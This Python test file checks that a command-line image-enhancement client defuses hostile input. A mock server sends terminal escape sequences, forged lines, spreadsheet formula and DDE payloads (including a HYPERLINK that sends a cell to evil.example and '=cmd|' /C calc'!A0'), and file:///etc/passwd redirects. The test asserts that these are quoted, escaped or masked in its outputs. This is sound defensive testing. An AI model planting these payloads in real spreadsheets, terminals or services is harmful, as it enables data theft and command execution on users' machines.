"""Hostile text end to end: a server of our own answers with terminal escape sequences,
CR/LF inside a message, text that is a spreadsheet formula, a reply and a result that
trickle, and result links and messages that carry the AppCode; the list and a local file
name bring their own.  What the terminal (a real pty), report.csv, the JSONL report and
the journal receive is checked byte by byte.
"""

from __future__ import annotations

import asyncio
import csv
import fcntl
import io
import json
import os
import pty
import sqlite3
import struct
import termios
import threading
import time
from collections.abc import Awaitable, Callable
from pathlib import Path

from PIL import Image

from tests.helpers import Env, enhance_env, start, write_list
from tests.reliability.support import (
    APPCODE,
    Conn,
    Received,
    Trial,
    hostile_server,
    png_bytes,
)
from zuotang_cli.outputs.report import read_report
from zuotang_cli.status import ExitStatus

SUITE = "Hostile text (escapes, formulas, trickles, the AppCode in replies)"
PNG = png_bytes((40, 30))
ESCAPES = "\x1b[2J\x1b]0;owned\x07bad image\r\nFAKE: done"
"""Clears the screen, retitles the terminal, rings, then forges a line of its own."""
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
LOCAL_NAME = "=1+1\x1b[31m.png"
"""A local image whose very name is a formula and a colour change."""

Answer = Callable[[Conn, str], Awaitable[None]]


def _json(status: int, state: int | None = None, **data: object) -> bytes:
    payload: dict[str, object] = {"status": status}
    if state is not None:
        payload["data"] = {"state": state, **data}
    return json.dumps(payload).encode()


def reply(http: int, body: bytes) -> Answer:
    async def answer(conn: Conn, base: str) -> None:
        await conn.reply(http, body, {"Content-Type": "application/json"})

    return answer


def success(link: str) -> Answer:
    async def answer(conn: Conn, base: str) -> None:
        image = link.format(base=base, code=APPCODE)
        await conn.reply(200, _json(200, 1, image=image, task_id="t-1"))

    return answer


async def trickle(conn: Conn, body: bytes, content_type: str) -> None:
    await conn.head(200, {"Content-Type": content_type}, content_length=len(body))
    for byte in body:
        await conn.send(bytes([byte]))
        await asyncio.sleep(0.4)


async def trickling_reply(conn: Conn, base: str) -> None:
    await trickle(conn, _json(200, 1, image=f"{base}/r/ok.png"), "application/json")


CALLS: dict[str, tuple[Answer, str]] = {
    # name: (how the endpoint answers, the error_class its row must end with)
    "escapes": (
        reply(400, json.dumps({"status": 400, "message": ESCAPES}).encode()),
        "http-400",
    ),
    "formula": (reply(200, _json(200, -7, state_detail=FORMULA)), "state-7"),
    "echo": (
        reply(200, _json(200, -3, state_detail=f"fetch failed; Authorization: APPCODE {APPCODE}")),
        "state-3",
    ),
    "code-link": (success("{base}/r/ok.png?appcode={code}"), ""),
    "code-link-broken": (success("{base}/r/to-file?appcode={code}"), "bad-result-url"),
    "file-url": (success("file:///etc/passwd"), "bad-reply"),
    "trickle": (trickling_reply, "timeout"),
    "slow-result": (success("{base}/r/trickle.png"), "download-too-slow"),
}


async def handle(request: Received, conn: Conn, base: str) -> None:
    if request.method == "POST":
        if request.headers.get("content-type", "").startswith("multipart/"):
            await reply(200, _json(200, -7, state_detail="@SUM(1+1)*cmd|' /C calc'!A0"))(conn, base)
            return
        name = request.form()["image_url"].rsplit("/", 1)[-1].removesuffix(".png")
        await CALLS[name][0](conn, base)
    elif request.target.startswith("/r/to-file"):
        await conn.reply(302, b"", {"Location": "file:///etc/passwd"})
    elif request.target.startswith("/r/trickle"):
        await trickle(conn, PNG, "image/png")
    else:
        await conn.reply(200, PNG, {"Content-Type": "image/png"})


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def run_on_a_pty(args: list[str], env: Env, cwd: Path) -> tuple[int, bytes, str]:
    """``zuotang ARGS`` with stderr on a real terminal (a pty 1000 columns wide, so the
    live display is the one a user sees) and stdout on a pipe: exit code, every byte the
    terminal got, stdout."""
    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 50, 1000, 0, 0))
    proc = start(*args, env=env, text=False, stderr=slave, cwd=cwd)
    os.close(slave)
    received = bytearray()

    def read() -> None:
        while True:
            try:
                chunk = os.read(master, 65536)
            except OSError:  # EIO: the child closed the terminal
                return
            if not chunk:
                return
            received.extend(chunk)

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    stdout, _ = proc.communicate(timeout=240)
    reader.join(timeout=10)
    os.close(master)
    return proc.returncode, bytes(received), stdout.decode("utf-8", "replace")


def test_hostile_text_reaches_the_terminal_the_report_and_the_journal_defused(
    trial: Trial, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    Image.open(io.BytesIO(png_bytes((32, 24)))).save(tmp_path / LOCAL_NAME)
    lines = [f"http://img.test/{name}.png" for name in CALLS]
    lines += ["http://img.test/\x1b[2J\x1b]0;list\x07.png", "=cmd|' /C calc'!A0"]
    write_list(tmp_path / "urls.txt", lines)
    base: list[str] = []
    with hostile_server(lambda request, conn: handle(request, conn, base[0])) as server:
        base.append(server.url)
        env = {
            **enhance_env(f"{server.url}/tasks/visual/scale", APPCODE),
            **{"TERM": "xterm-256color", "COLUMNS": "1000", "LINES": "50", "NO_COLOR": None},
        }
        started = time.monotonic()
        code, terminal, stdout = run_on_a_pty(
            [
                *("enhance", "urls.txt", LOCAL_NAME, "-o", str(out), "--report", "run.jsonl"),
                *("--timeout", "2", "--paid-retries", "0", "--retries", "0", "-v"),
            ],
            env,
            cwd=tmp_path,
        )
        took = time.monotonic() - started
    inputs = len(lines) + 1
    trial.inputs += inputs
    trial.runs += 1
    assert code == ExitStatus.SOME_FAILED, terminal[-3000:]

    # -- the terminal: nothing from outside acted on, each problem on one line --------
    # (the live display's own colours and cursor moves are escapes too: look for ours)
    for raw in (b"\x1b[2J", b"\x1b]0;owned", b"\x1b]0;list", b"\x07", b"1+1\x1b[31m"):
        assert raw not in terminal, raw
    assert APPCODE.encode() not in terminal and APPCODE not in stdout
    shown = terminal.decode("utf-8", "replace")
    assert "Traceback" not in shown
    assert "\\x1b[2J\\x1b]0;owned\\x07bad image\\r\\nFAKE: done" in shown
    forged = [line for line in shown.splitlines() if "FAKE: done" in line]
    assert forged and all("escapes.png" in line for line in forged), forged
    assert "=1+1\\x1b[31m.png" in shown
    assert "appcode=****" in shown  # -v showed the link, masked

    # -- report.csv: one line a row, no control character, no formula -----------------
    raw_csv = (out / "report.csv").read_bytes()
    assert b"\x1b" not in raw_csv and b"\x07" not in raw_csv
    assert raw_csv.count(b"\n") == raw_csv.count(b"\r") == inputs + 1
    with (out / "report.csv").open(encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    formulas = [c for c in cells if c.startswith(("=", "+", "-", "@")) and not is_number(c)]
    assert not formulas, formulas  # a state of -7 is a number, not a formula
    assert "'" + FORMULA in cells and "'=1+1\\x1b[31m.png" in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "'=cmd|' /C calc'!A0" in cells
    rows = {row["input"].rsplit("/", 1)[-1].removesuffix(".png"): row for row in read_report(
        out / "report.csv")}  # fmt: skip
    assert len(rows) == inputs
    got = {name: rows[name]["error_class"] for name in CALLS}
    assert got == {name: expected for name, (_, expected) in CALLS.items()}, got
    assert rows["formula"]["message"] == FORMULA  # zuotang's own reader takes the ' off
    assert "****" in rows["echo"]["message"]
    assert "a re-run calls again" in rows["file-url"]["message"]
    assert "held the AppCode" in rows["code-link-broken"]["message"]
    for name in ("file-url", "code-link-broken"):
        assert "a re-run downloads it" not in rows[name]["message"], rows[name]
    assert rows["trickle"]["paid_calls"] == "1"  # timed out after going out: possibly paid

    # -- the JSONL report: the exact text, still no raw control character -------------
    raw_jsonl = (tmp_path / "run.jsonl").read_bytes()
    assert b"\x1b" not in raw_jsonl and b"\x07" not in raw_jsonl
    exact = {r["input"].rsplit("/", 1)[-1]: r for r in read_report(tmp_path / "run.jsonl")}
    assert exact["escapes.png"]["message"] == ESCAPES
    assert exact[LOCAL_NAME]["input"] == LOCAL_NAME

    # -- the journal: the links are stored masked ---------------------------------------
    db = sqlite3.connect(out / ".zuotang" / "journal.sqlite")
    try:
        images = dict(db.execute("SELECT key, image FROM entries WHERE image IS NOT NULL"))
    finally:
        db.close()
    linked = {key.rsplit("/", 1)[-1]: image for key, image in images.items()}
    assert linked["code-link.png"].endswith("?appcode=****")
    assert linked["code-link-broken.png"].endswith("?appcode=****")
    assert not any(APPCODE in image for image in images.values())
    trial.note(
        f"{inputs} hostile inputs in {took:.1f} s: no escape acted on in the pty, "
        f"{len(forged)} forged line(s) kept on their own input's line, formulas quoted in "
        "CSV and exact in JSONL, AppCode masked in -v, report and journal; error classes "
        + ", ".join(f"{name} {cls or 'done'}" for name, cls in got.items())
    )
